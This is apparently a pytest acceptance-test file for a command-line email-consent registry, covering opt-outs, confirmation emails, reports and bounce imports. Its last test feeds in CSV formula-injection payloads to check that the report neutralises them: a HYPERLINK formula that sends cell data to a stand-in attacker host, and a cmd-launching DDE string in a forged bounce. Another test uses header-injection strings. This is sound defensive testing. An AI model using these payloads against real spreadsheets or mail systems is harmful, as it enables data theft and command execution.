"""`reminders consent ...`: the registry as staff and auditors use it."""

from __future__ import annotations

import csv
import io
import mailbox
from pathlib import Path
from typing import Any

import pytest

from acceptance.test_send_cli import smtp_env
from acceptance.workspace import CONTACTS, Workspace, assert_fails, by_ref
from mail_server import MailServer

#: A second contact of another agency, using Marie's address in other letter cases.
MARIE_AGAIN = "C-9,montreal,Marie Dupont (Montréal),Marie.Dupont@EXAMPLE.fr,fr,false,false"
MARIE_BOOKING = "B-9,montreal,C-9,Chalet Lac-Beauport,confirmed,,,0,CAD,2026-12-05,2026-12-12"


def status(workspace: Workspace, address: str) -> dict[str, Any]:
    found: dict[str, Any] = workspace.json("consent", "status", address)
    return found


def test_contacts_sharing_an_address_in_any_letter_case_share_its_consent(
    planned: Workspace,
) -> None:
    planned.ok("import", "contacts", str(planned.write_contacts([MARIE_AGAIN])))
    planned.ok("import", "bookings", str(planned.write_bookings([MARIE_BOOKING])))
    planned.ok("plan", "--date", "2026-12-01", "--agency", "montreal")

    before = by_ref(planned.queue())
    planned.ok("consent", "opt-out", "MARIE.DUPONT@example.FR", "--method", "phone")
    after = by_ref(planned.queue())
    found = status(planned, "marie.dupont@example.fr")

    # One registry entry: confirmed by the first contact's import, for both.
    assert before[("B-1", "balance_due")]["consent"] == "ok"
    assert before[("B-9", "arrival")]["consent"] == "ok"
    assert after[("B-1", "balance_due")]["consent"] == "opted_out"
    assert after[("B-9", "arrival")]["consent"] == "opted_out"
    assert found["address"] == "marie.dupont@example.fr"
    assert (found["consent"], found["source"]) == ("opted_out", "agent")
    assert sorted(c["agency"] for c in found["contacts"]) == ["annecy", "montreal"]
    assert status(planned, "Marie.Dupont@Example.FR") == found


def test_plus_tags_and_dots_are_other_addresses(planned: Workspace) -> None:
    planned.ok(
        "import",
        "contacts",
        str(
            planned.write_contacts(
                [
                    "C-10,annecy,Marie (tag),marie.dupont+resa@example.fr,fr,false,false",
                    "C-11,annecy,Marie (dots),mariedupont@example.fr,fr,false,false",
                ]
            )
        ),
    )

    planned.ok("consent", "opt-out", "marie.dupont@example.fr", "--method", "phone")

    assert status(planned, "marie.dupont+resa@example.fr")["consent"] == "unconfirmed"
    assert status(planned, "mariedupont@example.fr")["consent"] == "unconfirmed"


def test_status_shows_the_history_oldest_first_with_both_instants(planned: Workspace) -> None:
    planned.ok(
        "consent", "opt-out", "sophie.lefevre@example.fr", "--method", "paper form",
        "--at", "2026-11-02T09:15",
    )  # fmt: skip
    planned.ok("consent", "opt-in", "sophie.lefevre@example.fr", "--method", "phone")

    found = status(planned, "sophie.lefevre@example.fr")
    text = planned.ok("consent", "status", "sophie.lefevre@example.fr").stdout

    history = found["history"]
    assert [(h["action"], h["source"], h["method"]) for h in history] == [
        ("opt_out", "agent", "paper form"),
        ("opt_in", "agent", "phone"),
    ]
    # Given in the agency's local time (Paris, UTC+1 in November), shown in UTC.
    assert history[0]["occurred_at"] == "2026-11-02T08:15:00+00:00"
    assert history[0]["recorded_at"] > history[0]["occurred_at"]
    assert all(h["actor"] for h in history)
    assert found["consent"] == "unconfirmed"
    assert "History, oldest first:" in text and "paper form" in text


def test_staff_lift_only_an_agent_or_import_opt_out(planned: Workspace) -> None:
    # Thomas's opt-out came from the contacts file (source import): staff may lift it.
    lifted = planned.ok("consent", "opt-in", "thomas.bernard@example.com", "--method", "phone")

    assert "opted in" in lifted.stdout
    assert status(planned, "thomas.bernard@example.com")["consent"] == "ok"


@pytest.mark.parametrize(
    "method",
    [
        pytest.param("phone\nBcc: x", id="lf"),
        pytest.param("\x1b[31mred\x1b[0m", id="esc"),
        pytest.param("a\u2028b", id="line-separator"),
        pytest.param("x" * 41, id="too-long"),
    ],
)
def test_a_method_that_would_break_the_history_or_the_report_is_refused(
    planned: Workspace, method: str
) -> None:
    result = planned.run("consent", "opt-out", "sophie.lefevre@example.fr", "--method", method)

    assert_fails(result, 2, "--method")
    assert status(planned, "sophie.lefevre@example.fr")["history"] == []


def test_reimporting_an_unchanged_file_keeps_what_staff_recorded_since(
    planned: Workspace,
) -> None:
    # Thomas's row says email_opt_out=true; staff heard from him and opted him back in.
    planned.ok("consent", "opt-in", "thomas.bernard@example.com", "--method", "phone")
    unchanged = planned.write_contacts(CONTACTS)

    again = planned.ok("import", "contacts", str(unchanged))

    assert "6 unchanged" in again.stdout and "consent flags" not in again.stdout
    found = status(planned, "thomas.bernard@example.com")
    assert found["consent"] == "ok"
    assert [h["action"] for h in found["history"]][-1] == "opt_in"


def test_an_import_flag_that_changed_is_recorded_once(planned: Workspace) -> None:
    # Sophie's row now says she opted out; then the next file says she did not.
    opted_out = [
        r.replace("fr,false,false", "fr,false,true") if "C-2," in r else r for r in CONTACTS
    ]

    first = planned.ok("import", "contacts", str(planned.write_contacts(opted_out)))
    again = planned.ok("import", "contacts", str(planned.write_contacts(opted_out)))
    lifted = planned.ok("import", "contacts", str(planned.write_contacts(CONTACTS)))

    assert "1 updated" in first.stdout and "1 consent flags" in first.stdout
    assert "6 unchanged" in again.stdout
    assert "1 consent flags" in lifted.stdout
    history = status(planned, "sophie.lefevre@example.fr")["history"]
    assert [(h["action"], h["source"]) for h in history] == [
        ("opt_out", "import"),
        ("opt_in", "import"),
    ]


def test_send_confirmation_goes_once_per_address(
    planned: Workspace, mail_server: MailServer
) -> None:
    env = smtp_env(mail_server)

    first = planned.ok("consent", "send-confirmation", "Sophie.Lefevre@example.fr", env=env)
    second = planned.run("consent", "send-confirmation", "sophie.lefevre@example.fr", env=env)

    assert "confirmation email sent to sophie.lefevre@example.fr" in first.stdout
    assert_fails(second, 1, "already sent", "once per address")
    [received] = mail_server.messages()
    assert received.rcpt_to == ("sophie.lefevre@example.fr",)
    assert "/confirm/" in received.part("plain")
    assert received.message["Subject"] == "Agence du Lac : confirmez votre adresse email"
    assert status(planned, "sophie.lefevre@example.fr")["consent"] == "confirmation_pending"
    pending = by_ref(planned.queue())[("B-2", "arrival")]
    assert pending["consent"] == "confirmation_pending"


def test_send_confirmation_refuses_an_opted_out_address_until_staff_lift_it(
    planned: Workspace, mail_server: MailServer
) -> None:
    env = smtp_env(mail_server)
    # Thomas's contact row says email_opt_out: the import opted the address out.
    assert status(planned, "thomas.bernard@example.com")["source"] == "import"

    refused = planned.run("consent", "send-confirmation", "thomas.bernard@example.com", env=env)

    assert_fails(refused, 1, "opted out by import", "reminders consent opt-in")
    assert mail_server.messages() == []
    assert status(planned, "thomas.bernard@example.com")["consent"] == "opted_out"

    planned.ok("consent", "opt-in", "thomas.bernard@example.com", "--method", "phone")
    sent = planned.ok("consent", "send-confirmation", "thomas.bernard@example.com", env=env)

    assert "confirmation email sent" in sent.stdout
    assert len(mail_server.messages()) == 1


def test_no_confirmation_email_to_a_server_that_refuses_and_nothing_recorded(
    planned: Workspace, mail_server: MailServer
) -> None:
    mail_server.stop()

    result = planned.run(
        "consent", "send-confirmation", "sophie.lefevre@example.fr", env=smtp_env(mail_server)
    )

    assert_fails(result, 1, "cannot reach the mail server")
    assert status(planned, "sophie.lefevre@example.fr")["history"] == []


def _report(workspace: Workspace, *args: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = workspace.json("consent", "report", *args)
    return rows


def test_the_report_lists_opted_out_addresses_with_filters(planned: Workspace) -> None:
    planned.ok(
        "consent", "opt-out", "marie.dupont@example.fr", "--method", "phone",
        "--at", "2026-10-15T10:00+00:00",
    )  # fmt: skip
    planned.ok(
        "consent", "opt-out", "olivia.tremblay@example.ca", "--method", "letter",
        "--at", "2026-11-10T10:00+00:00",
    )  # fmt: skip

    everything = _report(planned)
    by_agent = _report(planned, "--source", "agent")
    by_import = _report(planned, "--source", "import")
    november = _report(planned, "--since", "2026-11-01", "--until", "2026-11-30")
    october = _report(planned, "--until", "2026-10-15")
    prefixed = _report(planned, "--prefix", "MARIE")
    csv_text = planned.ok("consent", "report", "--csv", "--source", "agent").stdout
    table = planned.ok("consent", "report").stdout

    assert [r["address"] for r in everything] == [
        "marie.dupont@example.fr",
        "olivia.tremblay@example.ca",
        "thomas.bernard@example.com",
    ]
    assert {"address", "source", "method", "occurred_at"} <= set(everything[0])
    assert [r["address"] for r in by_agent] == [
        "marie.dupont@example.fr",
        "olivia.tremblay@example.ca",
    ]
    assert [(r["address"], r["method"]) for r in by_import] == [
        ("thomas.bernard@example.com", "csv import")
    ]
    assert "olivia.tremblay@example.ca" in [r["address"] for r in november]
    assert "marie.dupont@example.fr" not in [r["address"] for r in november]
    assert [r["address"] for r in october] == ["marie.dupont@example.fr"]
    assert [r["address"] for r in prefixed] == ["marie.dupont@example.fr"]
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert [(r["address"], r["source"], r["method"]) for r in rows] == [
        ("marie.dupont@example.fr", "agent", "phone"),
        ("olivia.tremblay@example.ca", "agent", "letter"),
    ]
    assert rows[0]["occurred_at"].startswith("2026-10-15T10:00")
    assert "3 opted-out addresses" in table


@pytest.mark.parametrize(
    ("args", "code", "fragments"),
    [
        pytest.param(("consent", "status", "not-an-address"), 1,
                     ("'not-an-address' is not a valid email address",), id="invalid-address"),
        pytest.param(("consent", "status", "nobody@example.org"), 1,
                     ("not in the registry",), id="unknown-address"),
        pytest.param(("consent", "opt-out", "marie.dupont@example.fr", "--method", "phone",
                      "--at", "yesterday"), 2, ("--at 'yesterday' is not a date",),
                     id="at-not-a-date"),
        pytest.param(("consent", "opt-out", "marie.dupont@example.fr", "--method", "phone",
                      "--at", "2999-01-01T10:00+00:00"), 2, ("in the future",),
                     id="at-in-the-future"),
        pytest.param(("consent", "opt-out", "marie.dupont@example.fr"), 2,
                     ("Missing option '--method'",), id="method-missing"),
        pytest.param(("consent", "opt-out", "marie.dupont@example.fr", "--method", "phone",
                      "--at", "0001-01-01T00:00+01:00"), 2,
                     ("'0001-01-01T00:00+01:00' is out of range",),
                     id="at-before-the-calendar-starts-in-utc"),
        pytest.param(("consent", "report", "--until", "9999-12-31"), 2,
                     ("--until '9999-12-31' is out of range", "1900-01-01"),
                     id="report-until-the-last-day-of-the-calendar"),
        pytest.param(("consent", "report", "--since", "2026-11-30", "--until", "2026-11-01"), 2,
                     ("is before --since",), id="report-range-reversed"),
        pytest.param(("consent", "report", "--csv", "--json"), 2,
                     ("exclude each other",), id="report-two-formats"),
        pytest.param(("consent", "report", "--source", "robot"), 2,
                     ("'robot' is not one of",), id="report-unknown-source"),
    ],
)  # fmt: skip
def test_bad_requests_get_one_line_and_change_nothing(
    planned: Workspace, args: tuple[str, ...], code: int, fragments: tuple[str, ...]
) -> None:
    before = status(planned, "marie.dupont@example.fr")

    result = planned.run(*args)

    assert_fails(result, code, *fragments)
    assert status(planned, "marie.dupont@example.fr") == before


SAMPLES = Path(__file__).parents[1] / "samples" / "bounces"
BOUNCED = [
    "C-20,annecy,Jean Martin,jean.martin@example.org,fr,true,false",
    "C-21,annecy,Claire Bernard,Claire.Bernard@example.net,fr,true,false",
    "C-22,annecy,Paul Girard,paul.girard@example.net,fr,true,false",
]


def mbox_of(workspace: Workspace, *samples: str) -> Path:
    path = workspace.folder / "bounces.mbox"
    box = mailbox.mbox(path)
    try:
        for sample in samples:
            box.add((SAMPLES / sample).read_bytes())
        box.flush()
    finally:
        box.close()
    return path


def test_bounces_import_opts_out_hard_bounces_and_complaints(planned: Workspace) -> None:
    planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
    inbox = mbox_of(
        planned,
        "postfix-user-unknown.eml",
        "arf-abuse-complaint.eml",
        "postfix-delayed.eml",
        "corrupt-truncated-dsn.eml",
        "out-of-office.eml",
    )

    result = planned.ok("bounces", "import", str(inbox))

    assert "jean.martin@example.org: opted out (system, bounce)" in result.stdout
    assert "claire.bernard@example.net: opted out (system, complaint)" in result.stdout
    assert "skipped bounces.mbox message 4" in result.stdout
    assert "skipped bounces.mbox message 5" in result.stdout
    assert "1 temporary failures counted" in result.stdout
    jean = status(planned, "jean.martin@example.org")
    assert (jean["consent"], jean["source"]) == ("opted_out", "system")
    [bounce] = [h for h in jean["history"] if h["action"] == "opt_out"]
    assert bounce["method"] == "bounce" and "5.1.1" in bounce["detail"]
    claire = status(planned, "claire.bernard@example.net")
    [complaint] = [h for h in claire["history"] if h["action"] == "opt_out"]
    assert (claire["consent"], complaint["method"]) == ("opted_out", "complaint")
    assert status(planned, "paul.girard@example.net")["consent"] == "ok"
    system = [r["address"] for r in _report(planned, "--source", "system")]
    assert system == ["Claire.Bernard@example.net", "jean.martin@example.org"]

    # Only the contact's own confirmation lifts a bounce's opt-out.
    refused = planned.run("consent", "opt-in", "jean.martin@example.org", "--method", "phone")
    assert_fails(refused, 1, "opted out by system", "only the contact's own confirmation")


def test_bounces_import_reads_one_file_and_a_maildir(planned: Workspace) -> None:
    planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
    maildir = mailbox.Maildir(planned.folder / "Bounces", create=True)
    maildir.add((SAMPLES / "arf-abuse-complaint.eml").read_bytes())
    maildir.add((SAMPLES / "guest-reply.eml").read_bytes())

    single = planned.json("bounces", "import", str(SAMPLES / "postfix-user-unknown.eml"))
    folder = planned.json("bounces", "import", str(planned.folder / "Bounces"))

    assert [o["address"] for o in single["opted_out"]] == ["jean.martin@example.org"]
    assert [o["address"] for o in folder["opted_out"]] == ["claire.bernard@example.net"]
    assert len(folder["skipped"]) == 1 and "ordinary message" in folder["skipped"][0]["reason"]


def test_bounces_import_of_a_path_that_is_not_there_says_what_to_give(planned: Workspace) -> None:
    result = planned.run("bounces", "import", "nowhere.mbox")

    assert_fails(result, 1, "nowhere.mbox", "mbox")


def test_bounces_import_skips_an_unusable_address_and_reads_on(planned: Workspace) -> None:
    planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
    invalid = (SAMPLES / "postfix-user-unknown.eml").read_bytes()
    invalid = invalid.replace(b"jean.martin@example.org", b"x@localhost")
    inbox = planned.folder / "bounces.mbox"
    box = mailbox.mbox(inbox)
    try:
        box.add(invalid)
        box.add((SAMPLES / "postfix-user-unknown.eml").read_bytes())
        box.flush()
    finally:
        box.close()

    # Exit 0: every message was read; what could not be used is listed, not fatal.
    result = planned.ok("bounces", "import", str(inbox))
    summary = planned.json("bounces", "import", str(inbox))

    [skipped_line] = [line for line in result.stdout.splitlines() if "x@localhost" in line]
    assert skipped_line.startswith("skipped bounces.mbox message 1: ")
    assert "not a valid email address" in skipped_line
    assert "jean.martin@example.org: opted out (system, bounce)" in result.stdout
    assert "1 messages skipped" in result.stdout
    jean = status(planned, "jean.martin@example.org")
    assert (jean["consent"], jean["source"]) == ("opted_out", "system")
    [skipped] = summary["skipped"]
    assert skipped["where"] == "bounces.mbox message 1"
    assert "x@localhost" in skipped["reason"]
    assert [o["address"] for o in summary["opted_out"]] == ["jean.martin@example.org"]


#: What a spreadsheet runs as a formula when a cell starts with it (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_the_csv_report_neutralises_cells_a_spreadsheet_would_run(planned: Workspace) -> None:
    hyperlink = '=HYPERLINK("http://e.vil/?"&A1,"x")'
    planned.ok("consent", "opt-out", "=1+2@example.fr", "--method", hyperlink)
    planned.ok("import", "contacts", str(planned.write_contacts(BOUNCED)))
    # Anyone can mail a fake bounce: its diagnostic is theirs to write.
    forged = (SAMPLES / "postfix-user-unknown.eml").read_bytes()
    forged = forged.replace(
        b"Diagnostic-Code: smtp; 550 5.1.1 <jmartin@mailstore.example.org>: Recipient",
        b"Diagnostic-Code: smtp; @SUM(1+9)*cmd|' /C calc'!A0 <jmartin@example.org>: Recipient",
    )
    planned.ok("bounces", "import", str(planned.write("forged.eml", forged)))

    text = planned.ok("consent", "report", "--csv").stdout
    rows = list(csv.reader(io.StringIO(text)))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    by_address = {row[0]: row for row in rows[1:]}
    assert "'=1+2@example.fr" in by_address
    assert by_address["'=1+2@example.fr"][2] == "'" + hyperlink
    [detail] = [row[5] for row in rows if row[0] == "jean.martin@example.org"]
    assert detail.startswith("'@SUM(1+9)")
    # JSON keeps every value as it is: only a spreadsheet runs formulas.
    assert "=1+2@example.fr" in [r["address"] for r in _report(planned)]
